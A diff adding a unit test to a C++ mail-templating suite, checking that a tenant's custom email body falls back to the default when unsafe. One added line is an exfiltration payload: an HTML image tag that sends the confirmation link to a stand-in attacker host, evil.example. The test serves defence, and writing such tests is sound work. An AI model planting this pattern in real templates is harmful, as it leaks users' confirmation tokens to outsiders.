@@ -79,6 +79,9 @@ TEST_CASE("mail: the house's own are the tenant's template of that slug, else th
   letter.own_subject = "Own";
   letter.own_body = "<p>{{link}}</p>";
   CHECK(bytes_of(letter).contains("Subject: Own"));
+  letter.own_body = R"(<p>{{link}}</p><img src="https://evil.example/?t={{link}}">)";
+  CHECK(bytes_of(letter).contains("Subject: Confirmez"));
+  CHECK_FALSE(bytes_of(letter).contains("evil"));
   letter.own_body = "{{what_nobody_knows}}";
   CHECK(bytes_of(letter).contains("Subject: Confirmez"));
   letter.token_purpose.reset();
